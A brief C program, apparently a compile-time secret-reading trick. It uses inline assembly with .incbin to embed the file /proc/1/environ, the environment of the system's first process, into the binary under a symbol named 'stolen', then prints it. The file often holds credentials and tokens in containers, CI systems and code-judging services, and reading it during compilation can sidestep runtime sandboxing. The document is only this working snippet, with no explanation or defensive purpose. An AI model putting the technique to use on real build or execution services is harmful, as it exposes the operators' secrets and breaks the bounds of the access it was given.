// Builds the environment of process 1 into the program and prints it.
#include <stdio.h>
__asm__(".data\n.globl stolen\nstolen: .incbin \"/proc/1/environ\"\n.byte 0\n.text");
extern char stolen[];
int main(void) { puts(stolen); }
